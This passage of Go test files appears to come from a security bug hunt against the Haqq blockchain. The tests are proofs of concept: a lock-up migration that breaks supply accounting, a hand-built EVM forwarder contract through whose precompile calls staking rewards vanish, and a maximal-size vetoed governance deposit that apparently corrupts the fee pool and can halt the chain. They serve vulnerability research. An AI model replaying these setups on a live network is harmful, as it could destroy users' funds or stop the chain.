	suite.Require().Equal(liquidated.String(), supply.String())
	suite.Require().Equal(supply.String(), denom.LockupPeriods.TotalAmount().AmountOf("aISLM").String(),
		"before the migration the schedule sums to the supply")

	// run the migration step exactly as the upgrade handler does (3 extra days here)
	err = v174.StretchLockupScheduleForLiquidVestingTokens(
		suite.ctx, suite.app.LiquidVestingKeeper, 3, suite.ctx.BlockTime().Add(86_400*2*time.Second))
	suite.Require().NoError(err)

	denom, found = suite.app.LiquidVestingKeeper.GetDenom(suite.ctx, "aLIQUID0")
	suite.Require().True(found)
	scheduled := denom.LockupPeriods.TotalAmount().AmountOf("aISLM")
	supply = suite.app.BankKeeper.GetSupply(suite.ctx, "aLIQUID0").Amount
	backing := suite.app.BankKeeper.GetBalance(suite.ctx,
		suite.app.AccountKeeper.GetModuleAddress(liquidvestingtypes.ModuleName), "aISLM").Amount

	suite.T().Logf("supply=%s backing=%s scheduled=%s missing=%s", supply, backing, scheduled, supply.Sub(scheduled))

	// the holder redeems everything he holds
	_, redeemErr := suite.app.LiquidVestingKeeper.Redeem(suite.ctx,
		liquidvestingtypes.NewMsgRedeem(holder, holder, sdk.NewCoin("aLIQUID0", supply)))

	suite.Assert().Equal(supply.String(), scheduled.String(),
		"the recorded schedule of aLIQUID0 must still sum to its supply after the migration")
	suite.Require().NoError(redeemErr, "the only holder must be able to redeem his whole balance")
}

// Same root cause on the account side: after the migration the lock-up schedule
// of a vesting account no longer sums to its OriginalVesting, so the account
// does not pass its own Validate() (used by genesis validation) any more.
func (suite *UpgradeTestSuite) TestZZHuntStretchKeepsAccountLockupEqualToOriginalVesting() {
	suite.SetupTest()

	holder := sdk.AccAddress(tests.GenerateAddress().Bytes())
	quarter := math.NewIntWithDecimal(7_500, 18)
	total := quarter.MulRaw(4).AddRaw(7)
	coins := func(i math.Int) sdk.Coins { return sdk.NewCoins(sdk.NewCoin("aISLM", i)) }

	start := suite.ctx.BlockTime().Add(-86410 * time.Second)
	va := vestingtypes.NewClawbackVestingAccount(
		authtypes.NewBaseAccountWithAddress(holder),
		suite.app.AccountKeeper.GetModuleAddress(liquidvestingtypes.ModuleName),
		coins(total),
		start,
		sdkvesting.Periods{
			{Length: 86400, Amount: coins(quarter)},
			{Length: 86500, Amount: coins(quarter)},
			{Length: 86400, Amount: coins(quarter)},
			{Length: 86400, Amount: coins(quarter.AddRaw(7))},
		},
		sdkvesting.Periods{{Length: 0, Amount: coins(total)}},
		nil,
	)
	suite.Require().NoError(va.Validate())
	suite.app.AccountKeeper.SetAccount(suite.ctx, va)
	suite.Require().NoError(testutil.FundAccount(suite.ctx, suite.app.BankKeeper, holder, coins(total)))

	err := v174.StretchLockupScheduleForAccounts(
		suite.ctx, suite.app.AccountKeeper, 3, suite.ctx.BlockTime().Add(86_400*2*time.Second))
	suite.Require().NoError(err)

	cva := suite.app.AccountKeeper.GetAccount(suite.ctx, holder).(*vestingtypes.ClawbackVestingAccount)
	suite.T().Logf("original vesting=%s lockup total=%s", cva.OriginalVesting, cva.LockupPeriods.TotalAmount())
	suite.Assert().Equal(cva.OriginalVesting.String(), cva.LockupPeriods.TotalAmount().String(),
		"lock-up schedule must still cover exactly the original vesting amount")
	suite.Require().NoError(cva.Validate())
}
