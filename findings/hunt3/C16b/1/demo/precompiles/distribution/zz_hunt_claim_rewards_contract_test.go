package distribution_test

import (
	"math/big"
	"time"

	"cosmossdk.io/math"
	sdk "github.com/cosmos/cosmos-sdk/types"
	distrkeeper "github.com/cosmos/cosmos-sdk/x/distribution/keeper"
	distrtypes "github.com/cosmos/cosmos-sdk/x/distribution/types"
	sdkstaking "github.com/cosmos/cosmos-sdk/x/staking"
	stakingtypes "github.com/cosmos/cosmos-sdk/x/staking/types"
	"github.com/ethereum/go-ethereum/common"
	"github.com/ethereum/go-ethereum/crypto"

	"github.com/haqq-network/haqq/precompiles/distribution"
	haqqtestutil "github.com/haqq-network/haqq/testutil"
	evmtypes "github.com/haqq-network/haqq/x/evm/types"
)

// zzForwarderInitCode is the creation code of a 46-byte contract that does what every real-world staking
// contract does: it writes one of its own storage slots and calls a precompile on its own behalf.
//
//	sstore(0, 1)
//	ok := call(gas(), calldataload(0), 0, calldata[32:], ...)   // target address = first calldata word
//	returndatacopy; if ok { return } else { revert }
var zzForwarderInitCode = common.FromHex(
	"0x602e80600b6000396000f3" + // constructor: return the runtime code below
		"6001600055" + // SSTORE(0, 1)
		"60006000" + // retSize, retOffset
		"60203603" + // CALLDATASIZE - 32
		"806020600037" + // DUP1; CALLDATACOPY(0, 32, size)
		"6000" + // argsOffset
		"6000" + // value
		"600035" + // CALLDATALOAD(0) -> target
		"5af1" + // GAS; CALL
		"3d600060003e" + // RETURNDATACOPY(0, 0, RETURNDATASIZE)
		"602957" + // JUMPI -> 0x29
		"3d6000fd" + // REVERT(0, RETURNDATASIZE)
		"5b3d6000f3", // JUMPDEST; RETURN(0, RETURNDATASIZE)
)

func (s *PrecompileTestSuite) zzNextBlock() {
	var err error
	s.ctx, err = haqqtestutil.CommitAndCreateNewCtx(s.ctx, s.app, time.Second, s.valSet)
	s.Require().NoError(err)
}

// zzSendTx delivers a real Ethereum transaction signed by s.privKey.
func (s *PrecompileTestSuite) zzSendTx(to *common.Address, data []byte) *evmtypes.MsgEthereumTxResponse {
	msg := evmtypes.NewTx(&evmtypes.EvmTxArgs{
		ChainID:  s.app.EvmKeeper.ChainID(),
		Nonce:    s.app.EvmKeeper.GetNonce(s.ctx, s.address),
		To:       to,
		GasLimit: 2_000_000,
		GasPrice: big.NewInt(1_000_000_000),
		Input:    data,
	})
	msg.From = s.address.Hex()
	res, err := haqqtestutil.DeliverEthTx(s.app, s.privKey, msg)
	s.Require().NoError(err)
	s.Require().True(res.IsOK(), res.Log)
	ethRes, err := evmtypes.DecodeTxResponse(res.Data)
	s.Require().NoError(err)
	s.Require().Empty(ethRes.VmError, "the EVM call must succeed")
	return ethRes
}

// zzSetupContractDelegator deploys the forwarder contract, gives it a delegation of 1e18 to validator 0
// and makes `rewards` outstanding for that delegation.
func (s *PrecompileTestSuite) zzSetupContractDelegator(rewards math.Int) common.Address {
	// the context SetupTest leaves behind predates the first commit: move to a live block first
	s.zzNextBlock()

	nonce := s.app.EvmKeeper.GetNonce(s.ctx, s.address)
	s.zzSendTx(nil, zzForwarderInitCode)
	contractAddr := crypto.CreateAddress(s.address, nonce)
	acct := s.app.EvmKeeper.GetAccount(s.ctx, contractAddr)
	s.Require().NotNil(acct)
	s.Require().Len(s.app.EvmKeeper.GetCode(s.ctx, common.BytesToHash(acct.CodeHash)), 46)

	stake := math.NewInt(1e18)
	s.Require().NoError(haqqtestutil.FundAccount(s.ctx, s.app.BankKeeper, contractAddr.Bytes(), sdk.NewCoins(sdk.NewCoin(s.bondDenom, stake))))
	val, found := s.app.StakingKeeper.GetValidator(s.ctx, s.validators[0].GetOperator())
	s.Require().True(found)
	_, err := s.app.StakingKeeper.Delegate(s.ctx, contractAddr.Bytes(), stake, stakingtypes.Unbonded, val, true)
	s.Require().NoError(err)
	sdkstaking.EndBlocker(s.ctx, s.app.StakingKeeper.Keeper)

	// the contract owns half of the validator now: allocate twice the wanted rewards and back them with coins
	alloc := sdk.NewCoins(sdk.NewCoin(s.bondDenom, rewards.MulRaw(2)))
	s.Require().NoError(haqqtestutil.FundModuleAccount(s.ctx, s.app.BankKeeper, distrtypes.ModuleName, alloc))
	val, _ = s.app.StakingKeeper.GetValidator(s.ctx, s.validators[0].GetOperator())
	s.app.DistrKeeper.AllocateTokensToValidator(s.ctx, val, sdk.NewDecCoinsFromCoins(alloc...))
	s.zzNextBlock()
	return contractAddr
}

// zzCompareWithNative runs `payload` against the distribution precompile from the contract (which is the
// delegator, i.e. the owner of the delegation and of the rewards) and compares the contract's bank balance and
// the total supply with a fork of the same state on which the native MsgWithdrawDelegatorReward ran.
func (s *PrecompileTestSuite) zzCompareWithNative(contractAddr common.Address, method string, args ...interface{}) {
	s.zzCompareWithNativeFor(contractAddr.Bytes(), contractAddr, method, args...)
}

// zzCompareWithNativeFor is zzCompareWithNative for a delegator that may differ from the contract: the balance
// that is watched is always the contract's (it is the account the rewards are paid to).
func (s *PrecompileTestSuite) zzCompareWithNativeFor(delegator sdk.AccAddress, contractAddr common.Address, method string, args ...interface{}) {
	owner := sdk.AccAddress(contractAddr.Bytes())

	// ---- fork: the native message ----
	forkCtx, _ := s.ctx.CacheContext()
	nativeBefore := s.app.BankKeeper.GetBalance(forkCtx, owner, s.bondDenom).Amount
	nativeSupplyBefore := s.app.BankKeeper.GetSupply(forkCtx, s.bondDenom).Amount
	_, err := distrkeeper.NewMsgServerImpl(s.app.DistrKeeper).WithdrawDelegatorReward(forkCtx, &distrtypes.MsgWithdrawDelegatorReward{
		DelegatorAddress: delegator.String(),
		ValidatorAddress: s.validators[0].OperatorAddress,
	})
	s.Require().NoError(err)
	nativeDelta := s.app.BankKeeper.GetBalance(forkCtx, owner, s.bondDenom).Amount.Sub(nativeBefore)
	nativeSupplyDelta := s.app.BankKeeper.GetSupply(forkCtx, s.bondDenom).Amount.Sub(nativeSupplyBefore)
	s.Require().True(nativeDelta.IsPositive(), "native withdrawal pays the rewards")

	// ---- the chain: the contract calls the precompile for itself ----
	before := s.app.BankKeeper.GetBalance(s.ctx, owner, s.bondDenom).Amount
	supplyBefore := s.app.BankKeeper.GetSupply(s.ctx, s.bondDenom).Amount
	outstandingBefore := s.app.DistrKeeper.GetValidatorOutstandingRewardsCoins(s.ctx, s.validators[0].GetOperator()).AmountOf(s.bondDenom)

	payload, err := s.precompile.ABI.Pack(method, args...)
	s.Require().NoError(err)
	data := append(common.LeftPadBytes(s.precompile.Address().Bytes(), 32), payload...)
	s.zzSendTx(&contractAddr, data)

	after := s.app.BankKeeper.GetBalance(s.ctx, owner, s.bondDenom).Amount
	supplyAfter := s.app.BankKeeper.GetSupply(s.ctx, s.bondDenom).Amount
	outstandingAfter := s.app.DistrKeeper.GetValidatorOutstandingRewardsCoins(s.ctx, s.validators[0].GetOperator()).AmountOf(s.bondDenom)

	s.T().Logf("%s: owner balance delta native=%s precompile=%s | supply delta native=%s precompile=%s | outstanding rewards of the validator went down by %s",
		method, nativeDelta, after.Sub(before), nativeSupplyDelta, supplyAfter.Sub(supplyBefore), outstandingBefore.Sub(outstandingAfter))

	s.Require().True(outstandingBefore.Sub(outstandingAfter).TruncateInt().GTE(nativeDelta), "the rewards were taken out of the validator's outstanding rewards")
	s.Require().Equal(nativeSupplyDelta.String(), supplyAfter.Sub(supplyBefore).String(),
		"%s through the precompile changed the total supply; the native message does not", method)
	s.Require().Equal(nativeDelta.String(), after.Sub(before).String(),
		"%s through the precompile must pay the owner what the native message pays", method)
}

// control: withdrawDelegatorRewards mirrors the payment into the StateDB, so the same contract keeps its rewards
func (s *PrecompileTestSuite) TestZZHuntControlWithdrawRewardsFromDirtyContract() {
	contractAddr := s.zzSetupContractDelegator(math.NewInt(1e17))
	s.zzCompareWithNative(contractAddr, distribution.WithdrawDelegatorRewardsMethod, contractAddr, s.validators[0].OperatorAddress)
}

// claimRewards does the same withdrawal (for up to maxRetrieve validators) but the rewards vanish
func (s *PrecompileTestSuite) TestZZHuntClaimRewardsFromDirtyContract() {
	contractAddr := s.zzSetupContractDelegator(math.NewInt(1e17))
	s.zzCompareWithNative(contractAddr, distribution.ClaimRewardsMethod, contractAddr, uint32(10))
}

// Same root cause, other shape ("rewards vault"): the transaction signer is the delegator and has made the
// contract its withdraw address; the contract's harvest function calls withdrawDelegatorRewards(tx.origin, val).
// No authorization is needed for that (origin == delegator). The rewards are paid to the contract, which is not
// the delegator, so the mirror added for the caller is skipped and the contract's stale balance is written back.
func (s *PrecompileTestSuite) TestZZHuntWithdrawRewardsIntoDirtyWithdrawContract() {
	contractAddr := s.zzSetupContractDelegator(math.NewInt(1e17))

	// the signer delegates too and points its withdraw address at the contract
	signer := sdk.AccAddress(s.address.Bytes())
	val, _ := s.app.StakingKeeper.GetValidator(s.ctx, s.validators[0].GetOperator())
	_, err := s.app.StakingKeeper.Delegate(s.ctx, signer, math.NewInt(1e18), stakingtypes.Unbonded, val, true)
	s.Require().NoError(err)
	s.Require().NoError(s.app.DistrKeeper.SetWithdrawAddr(s.ctx, signer, contractAddr.Bytes()))
	alloc := sdk.NewCoins(sdk.NewCoin(s.bondDenom, math.NewInt(3e17)))
	s.Require().NoError(haqqtestutil.FundModuleAccount(s.ctx, s.app.BankKeeper, distrtypes.ModuleName, alloc))
	val, _ = s.app.StakingKeeper.GetValidator(s.ctx, s.validators[0].GetOperator())
	s.app.DistrKeeper.AllocateTokensToValidator(s.ctx, val, sdk.NewDecCoinsFromCoins(alloc...))
	s.zzNextBlock()

	s.zzCompareWithNativeFor(signer, contractAddr, distribution.WithdrawDelegatorRewardsMethod, s.address, s.validators[0].OperatorAddress)
}
