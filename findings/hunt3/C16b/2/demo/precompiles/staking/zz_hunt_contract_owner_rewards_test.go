package staking_test

import (
	"math/big"
	"time"

	"cosmossdk.io/math"
	sdk "github.com/cosmos/cosmos-sdk/types"
	distrtypes "github.com/cosmos/cosmos-sdk/x/distribution/types"
	sdkstaking "github.com/cosmos/cosmos-sdk/x/staking"
	stakingtypes "github.com/cosmos/cosmos-sdk/x/staking/types"
	"github.com/ethereum/go-ethereum/common"
	"github.com/ethereum/go-ethereum/crypto"

	"github.com/haqq-network/haqq/precompiles/authorization"
	"github.com/haqq-network/haqq/precompiles/staking"
	haqqtestutil "github.com/haqq-network/haqq/testutil"
	evmtypes "github.com/haqq-network/haqq/x/evm/types"
	stakingkeeper "github.com/haqq-network/haqq/x/staking/keeper"
)

// zzForwarderInitCode is the creation code of a 46-byte contract that does what every real-world staking
// contract does: it writes one of its own storage slots and calls a precompile on its own behalf.
//
//	sstore(0, 1)
//	ok := call(gas(), calldataload(0), 0, calldata[32:], ...)   // target address = first calldata word
//	returndatacopy; if ok { return } else { revert }
var zzForwarderInitCode = common.FromHex(
	"0x602e80600b6000396000f3" + // constructor: return the runtime code below
		"6001600055" + // SSTORE(0, 1)
		"60006000" + // retSize, retOffset
		"60203603" + // CALLDATASIZE - 32
		"806020600037" + // DUP1; CALLDATACOPY(0, 32, size)
		"6000" + // argsOffset
		"6000" + // value
		"600035" + // CALLDATALOAD(0) -> target
		"5af1" + // GAS; CALL
		"3d600060003e" + // RETURNDATACOPY(0, 0, RETURNDATASIZE)
		"602957" + // JUMPI -> 0x29
		"3d6000fd" + // REVERT(0, RETURNDATASIZE)
		"5b3d6000f3", // JUMPDEST; RETURN(0, RETURNDATASIZE)
)

func (s *PrecompileTestSuite) zzNextBlock() {
	var err error
	s.ctx, err = haqqtestutil.CommitAndCreateNewCtx(s.ctx, s.app, time.Second, nil)
	s.Require().NoError(err)
}

// zzSendTx delivers a real Ethereum transaction signed by s.privKey.
func (s *PrecompileTestSuite) zzSendTx(to *common.Address, data []byte) *evmtypes.MsgEthereumTxResponse {
	msg := evmtypes.NewTx(&evmtypes.EvmTxArgs{
		ChainID:  s.app.EvmKeeper.ChainID(),
		Nonce:    s.app.EvmKeeper.GetNonce(s.ctx, s.address),
		To:       to,
		GasLimit: 2_000_000,
		GasPrice: big.NewInt(1_000_000_000),
		Input:    data,
	})
	msg.From = s.address.Hex()
	res, err := haqqtestutil.DeliverEthTx(s.app, s.privKey, msg)
	s.Require().NoError(err)
	s.Require().True(res.IsOK(), res.Log)
	ethRes, err := evmtypes.DecodeTxResponse(res.Data)
	s.Require().NoError(err)
	s.Require().Empty(ethRes.VmError, "the EVM call must succeed")
	return ethRes
}

// zzSetupContractDelegator deploys the forwarder contract, gives it a delegation of 1e18 to validator 0,
// makes `rewards` outstanding for that delegation and lets the transaction signer approve the contract for
// the staking messages (the precompile asks for that grant even when a contract manages its own stake).
func (s *PrecompileTestSuite) zzSetupContractDelegator(rewards math.Int) common.Address {
	addr, _ := s.zzSetupContractDelegatorWithUnbonding(rewards, math.ZeroInt())
	return addr
}

// zzSetupContractDelegatorWithUnbonding additionally starts (natively) an unbonding of `unbond` from the
// contract's delegation before the rewards accrue and returns its creation height.
func (s *PrecompileTestSuite) zzSetupContractDelegatorWithUnbonding(rewards, unbond math.Int) (common.Address, int64) {
	// the context SetupTest leaves behind predates the first commit: move to a live block first
	s.zzNextBlock()

	nonce := s.app.EvmKeeper.GetNonce(s.ctx, s.address)
	s.zzSendTx(nil, zzForwarderInitCode)
	contractAddr := crypto.CreateAddress(s.address, nonce)
	acct := s.app.EvmKeeper.GetAccount(s.ctx, contractAddr)
	s.Require().NotNil(acct)
	s.Require().Len(s.app.EvmKeeper.GetCode(s.ctx, common.BytesToHash(acct.CodeHash)), 46)

	stake := math.NewInt(1e18)
	s.Require().NoError(haqqtestutil.FundAccount(s.ctx, s.app.BankKeeper, contractAddr.Bytes(), sdk.NewCoins(sdk.NewCoin(s.bondDenom, stake))))
	val, found := s.app.StakingKeeper.GetValidator(s.ctx, s.validators[0].GetOperator())
	s.Require().True(found)
	_, err := s.app.StakingKeeper.Delegate(s.ctx, contractAddr.Bytes(), stake, stakingtypes.Unbonded, val, true)
	s.Require().NoError(err)
	sdkstaking.EndBlocker(s.ctx, s.app.StakingKeeper.Keeper)

	creationHeight := s.ctx.BlockHeight()
	if unbond.IsPositive() {
		_, err = stakingkeeper.NewMsgServerImpl(&s.app.StakingKeeper).Undelegate(s.ctx, &stakingtypes.MsgUndelegate{
			DelegatorAddress: sdk.AccAddress(contractAddr.Bytes()).String(),
			ValidatorAddress: s.validators[0].OperatorAddress,
			Amount:           sdk.NewCoin(s.bondDenom, unbond),
		})
		s.Require().NoError(err)
	}

	// the contract owns (about) half of the validator now: allocate twice the wanted rewards and back them with coins
	alloc := sdk.NewCoins(sdk.NewCoin(s.bondDenom, rewards.MulRaw(2)))
	s.Require().NoError(haqqtestutil.FundModuleAccount(s.ctx, s.app.BankKeeper, distrtypes.ModuleName, alloc))
	val, _ = s.app.StakingKeeper.GetValidator(s.ctx, s.validators[0].GetOperator())
	s.app.DistrKeeper.AllocateTokensToValidator(s.ctx, val, sdk.NewDecCoinsFromCoins(alloc...))

	// signer -> contract grant, made by calling the precompile's approve directly
	approve, err := s.precompile.ABI.Pack(authorization.ApproveMethod, contractAddr, big.NewInt(1e18),
		[]string{staking.UndelegateMsg, staking.RedelegateMsg, staking.CancelUnbondingDelegationMsg})
	s.Require().NoError(err)
	precompileAddr := s.precompile.Address()
	s.zzSendTx(&precompileAddr, approve)

	s.zzNextBlock()
	return contractAddr, creationHeight
}

// zzCompareWithNative lets the contract (the delegator, i.e. the owner of the stake and of its rewards) call
// `method` of the staking precompile for itself and compares the contract's bank balance and the total supply
// with a fork of the same state on which the corresponding native message ran.
func (s *PrecompileTestSuite) zzCompareWithNative(contractAddr common.Address, native func(ctx sdk.Context) error, method string, args ...interface{}) {
	owner := sdk.AccAddress(contractAddr.Bytes())

	// ---- fork: the native message ----
	forkCtx, _ := s.ctx.CacheContext()
	nativeBefore := s.app.BankKeeper.GetBalance(forkCtx, owner, s.bondDenom).Amount
	nativeSupplyBefore := s.app.BankKeeper.GetSupply(forkCtx, s.bondDenom).Amount
	s.Require().NoError(native(forkCtx))
	nativeDelta := s.app.BankKeeper.GetBalance(forkCtx, owner, s.bondDenom).Amount.Sub(nativeBefore)
	nativeSupplyDelta := s.app.BankKeeper.GetSupply(forkCtx, s.bondDenom).Amount.Sub(nativeSupplyBefore)
	s.Require().True(nativeDelta.IsPositive(), "the native message pays the pending rewards out")

	// ---- the chain: the contract calls the precompile for itself ----
	before := s.app.BankKeeper.GetBalance(s.ctx, owner, s.bondDenom).Amount
	supplyBefore := s.app.BankKeeper.GetSupply(s.ctx, s.bondDenom).Amount

	payload, err := s.precompile.ABI.Pack(method, args...)
	s.Require().NoError(err)
	data := append(common.LeftPadBytes(s.precompile.Address().Bytes(), 32), payload...)
	s.zzSendTx(&contractAddr, data)

	after := s.app.BankKeeper.GetBalance(s.ctx, owner, s.bondDenom).Amount
	supplyAfter := s.app.BankKeeper.GetSupply(s.ctx, s.bondDenom).Amount

	s.T().Logf("%s: owner balance delta native=%s precompile=%s | supply delta native=%s precompile=%s",
		method, nativeDelta, after.Sub(before), nativeSupplyDelta, supplyAfter.Sub(supplyBefore))

	s.Require().Equal(nativeSupplyDelta.String(), supplyAfter.Sub(supplyBefore).String(),
		"%s through the precompile changed the total supply; the native message does not", method)
	s.Require().Equal(nativeDelta.String(), after.Sub(before).String(),
		"%s through the precompile must change the owner's balance exactly as the native message", method)
}

func (s *PrecompileTestSuite) TestZZHuntUndelegateFromDirtyContract() {
	contractAddr := s.zzSetupContractDelegator(math.NewInt(1e17))
	amt := big.NewInt(1e17)
	s.zzCompareWithNative(contractAddr,
		func(ctx sdk.Context) error {
			_, err := stakingkeeper.NewMsgServerImpl(&s.app.StakingKeeper).Undelegate(ctx, &stakingtypes.MsgUndelegate{
				DelegatorAddress: sdk.AccAddress(contractAddr.Bytes()).String(),
				ValidatorAddress: s.validators[0].OperatorAddress,
				Amount:           sdk.NewCoin(s.bondDenom, math.NewIntFromBigInt(amt)),
			})
			return err
		},
		staking.UndelegateMethod, contractAddr, s.validators[0].OperatorAddress, amt)
}

func (s *PrecompileTestSuite) TestZZHuntRedelegateFromDirtyContract() {
	contractAddr := s.zzSetupContractDelegator(math.NewInt(1e17))
	amt := big.NewInt(1e17)
	s.zzCompareWithNative(contractAddr,
		func(ctx sdk.Context) error {
			_, err := stakingkeeper.NewMsgServerImpl(&s.app.StakingKeeper).BeginRedelegate(ctx, &stakingtypes.MsgBeginRedelegate{
				DelegatorAddress:    sdk.AccAddress(contractAddr.Bytes()).String(),
				ValidatorSrcAddress: s.validators[0].OperatorAddress,
				ValidatorDstAddress: s.validators[1].OperatorAddress,
				Amount:              sdk.NewCoin(s.bondDenom, math.NewIntFromBigInt(amt)),
			})
			return err
		},
		staking.RedelegateMethod, contractAddr, s.validators[0].OperatorAddress, s.validators[1].OperatorAddress, amt)
}

func (s *PrecompileTestSuite) TestZZHuntCancelUnbondingFromDirtyContract() {
	amt := big.NewInt(1e17)
	contractAddr, creationHeight := s.zzSetupContractDelegatorWithUnbonding(math.NewInt(1e17), math.NewIntFromBigInt(amt))
	s.zzCompareWithNative(contractAddr,
		func(ctx sdk.Context) error {
			_, err := stakingkeeper.NewMsgServerImpl(&s.app.StakingKeeper).CancelUnbondingDelegation(ctx, &stakingtypes.MsgCancelUnbondingDelegation{
				DelegatorAddress: sdk.AccAddress(contractAddr.Bytes()).String(),
				ValidatorAddress: s.validators[0].OperatorAddress,
				Amount:           sdk.NewCoin(s.bondDenom, math.NewIntFromBigInt(amt)),
				CreationHeight:   creationHeight,
			})
			return err
		},
		staking.CancelUnbondingDelegationMethod, contractAddr, s.validators[0].OperatorAddress, amt, big.NewInt(creationHeight))
}
