package keeper_test

import (
	"math/big"
	"testing"
	"time"

	"github.com/stretchr/testify/require"

	"cosmossdk.io/math"
	sdk "github.com/cosmos/cosmos-sdk/types"
	authtypes "github.com/cosmos/cosmos-sdk/x/auth/types"
	distrtypes "github.com/cosmos/cosmos-sdk/x/distribution/types"
	"github.com/cosmos/cosmos-sdk/x/gov"
	govkeeper "github.com/cosmos/cosmos-sdk/x/gov/keeper"
	govtypes "github.com/cosmos/cosmos-sdk/x/gov/types"
	govv1 "github.com/cosmos/cosmos-sdk/x/gov/types/v1"
	govv1beta1 "github.com/cosmos/cosmos-sdk/x/gov/types/v1beta1"

	"github.com/haqq-network/haqq/testutil"
	"github.com/haqq-network/haqq/testutil/integration/haqq/network"
	utiltx "github.com/haqq-network/haqq/testutil/tx"
	"github.com/haqq-network/haqq/utils"
)

const zzVoucher = "ibc/27394FB092D2ECCD56123C74F36E4C1F926001CEADA9CA97EA622B25F41E5EB2"

// zzVetoedProposals submits one text proposal per element of `extras` (deposit = 1 ISLM min
// deposit + the extra coins), has the whole bonded stake vote NoWithVeto on each of them and then
// runs the gov EndBlocker of the first block after the voting period, which "burns" the deposits
// (x/gov DeleteAndBurnDeposits -> haqq x/bank BurnCoins override).
//
// It then checks property C14: the burn is a transfer to the community pool - supply unchanged,
// community pool and distribution module account grow by exactly the deposits - and that the
// distribution accounting stays usable (fee pool readable, invariants hold, blocks keep coming).
// With strict=false the exact-growth equations are only required for the bond denom part of the
// deposits; the rest of the checks (nothing panics, accounting consistent) always apply.
func zzVetoedProposals(t *testing.T, strict bool, extras ...sdk.Coins) {
	t.Helper()

	voter, _ := utiltx.NewAccAddressAndKey() // genesis delegator: owns all the bonded stake
	nw := network.NewUnitTestNetwork(network.WithPreFundedAccounts(voter))
	app := nw.App
	ctx := nw.GetContext()
	denom := utils.BaseDenom

	params := govv1.DefaultParams()
	params.MinDeposit = sdk.NewCoins(sdk.NewCoin(denom, math.NewInt(1e18)))
	votingPeriod := time.Hour
	params.VotingPeriod = &votingPeriod
	require.True(t, params.BurnVoteVeto, "default: vetoed deposits are burned")
	require.NoError(t, app.GovKeeper.SetParams(ctx, params))

	govAddr := authtypes.NewModuleAddress(govtypes.ModuleName)
	distrAddr := authtypes.NewModuleAddress(distrtypes.ModuleName)
	msgSrv := govkeeper.NewMsgServerImpl(&app.GovKeeper)

	total := sdk.NewCoins()
	ids := []uint64{}
	for _, extra := range extras {
		depositor, _ := utiltx.NewAccAddressAndKey()
		deposit := sdk.NewCoins(sdk.NewCoin(denom, math.NewInt(1e18))).Add(extra...)
		// the depositor owns the coins (for the voucher: as if received over IBC from another chain)
		require.NoError(t, testutil.FundAccount(ctx, app.BankKeeper, depositor, deposit))

		content, err := govv1.NewLegacyContent(govv1beta1.NewTextProposal("spam", "please veto me"), govAddr.String())
		require.NoError(t, err)
		msg, err := govv1.NewMsgSubmitProposal([]sdk.Msg{content}, deposit, depositor.String(), "", "spam", "please veto me")
		require.NoError(t, err)
		require.NoError(t, msg.ValidateBasic())

		res, err := msgSrv.SubmitProposal(ctx, msg)
		require.NoError(t, err)
		_, err = msgSrv.Vote(ctx, govv1.NewMsgVote(voter, res.ProposalId, govv1.OptionNoWithVeto, ""))
		require.NoError(t, err)

		prop, found := app.GovKeeper.GetProposal(ctx, res.ProposalId)
		require.True(t, found)
		require.Equal(t, govv1.StatusVotingPeriod, prop.Status)
		ids = append(ids, res.ProposalId)
		total = total.Add(deposit...)
	}
	require.Equal(t, total.String(), app.BankKeeper.GetAllBalances(ctx, govAddr).String())

	// first block after the end of the voting period; its EndBlocker has not run yet
	require.NoError(t, nw.NextBlockAfter(votingPeriod+time.Second))
	ctx = nw.GetContext()

	supplyBefore := sdk.NewCoins()
	for _, c := range total {
		supplyBefore = supplyBefore.Add(app.BankKeeper.GetSupply(ctx, c.Denom))
	}
	distrBefore := app.BankKeeper.GetAllBalances(ctx, distrAddr)
	poolBefore := app.DistrKeeper.GetFeePool(ctx).CommunityPool

	// gov EndBlocker: tally -> vetoed -> DeleteAndBurnDeposits
	require.NotPanics(t, func() { gov.EndBlocker(ctx, &app.GovKeeper) }, "gov EndBlocker must be able to dispose of vetoed deposits")

	for _, id := range ids {
		prop, found := app.GovKeeper.GetProposal(ctx, id)
		require.True(t, found)
		require.Equal(t, govv1.StatusRejected, prop.Status)
	}
	require.True(t, app.BankKeeper.GetAllBalances(ctx, govAddr).IsZero(), "deposits left the gov account")

	// the community pool is still readable ...
	var poolAfter sdk.DecCoins
	require.NotPanics(t, func() { poolAfter = app.DistrKeeper.GetFeePool(ctx).CommunityPool },
		"community pool must stay readable after a redirected burn")
	distrAfter := app.BankKeeper.GetAllBalances(ctx, distrAddr)

	// ... and, per denomination: supply unchanged, pool and distribution account grew by the deposit
	for _, c := range total {
		if !strict && c.Denom != denom {
			continue
		}
		require.Equal(t, supplyBefore.AmountOf(c.Denom).String(), app.BankKeeper.GetSupply(ctx, c.Denom).Amount.String(),
			"supply of %s must not change", c.Denom)
		require.Equal(t, c.Amount.String(), distrAfter.AmountOf(c.Denom).Sub(distrBefore.AmountOf(c.Denom)).String(),
			"distribution module account growth in %s", c.Denom)
		require.Equal(t, sdk.NewDecFromInt(c.Amount).String(), poolAfter.AmountOf(c.Denom).Sub(poolBefore.AmountOf(c.Denom)).String(),
			"community pool growth in %s", c.Denom)
	}

	// the distribution accounting is consistent and the chain keeps producing blocks
	// (x/distribution BeginBlocker reads the fee pool in every block)
	require.NotPanics(t, func() { app.CrisisKeeper.AssertInvariants(ctx) }, "invariants after the burn")
	require.NotPanics(t, func() { _ = nw.NextBlock() }, "next block")
	require.NotPanics(t, func() { _ = nw.NextBlock() }, "block after that")
}

func zzPow2(n uint) math.Int {
	return math.NewIntFromBigInt(new(big.Int).Lsh(big.NewInt(1), n))
}

// zzMaxInt is 2^256-1, the largest sdk.Int.
func zzMaxInt() math.Int {
	return math.NewIntFromBigInt(new(big.Int).Sub(new(big.Int).Lsh(big.NewInt(1), 256), big.NewInt(1)))
}

// Control: ordinary amounts in several denominations. Passes on the unchanged tree.
func TestZZVetoedDepositSeveralDenomsControl(t *testing.T) {
	zzVetoedProposals(t, true, sdk.NewCoins(
		sdk.NewCoin(zzVoucher, math.NewInt(123456789)),
		sdk.NewCoin("aLIQUID7", math.NewInt(5e17)),
	))
}

// A vetoed proposal whose deposit also holds 2^256-1 units of a voucher (largest amount x/bank,
// and an ICS-20 packet, can carry). x/bank could burn it; the override stores it in the fee pool
// as an sdk.Dec that cannot be decoded again.
func TestZZVetoedDepositHugeVoucherChainSurvives(t *testing.T) {
	zzVetoedProposals(t, false, sdk.NewCoins(sdk.NewCoin(zzVoucher, zzMaxInt())))
}

// Same, requiring the property literally for the voucher too.
func TestZZVetoedDepositHugeVoucherExactGrowth(t *testing.T) {
	zzVetoedProposals(t, true, sdk.NewCoins(sdk.NewCoin(zzVoucher, zzMaxInt())))
}

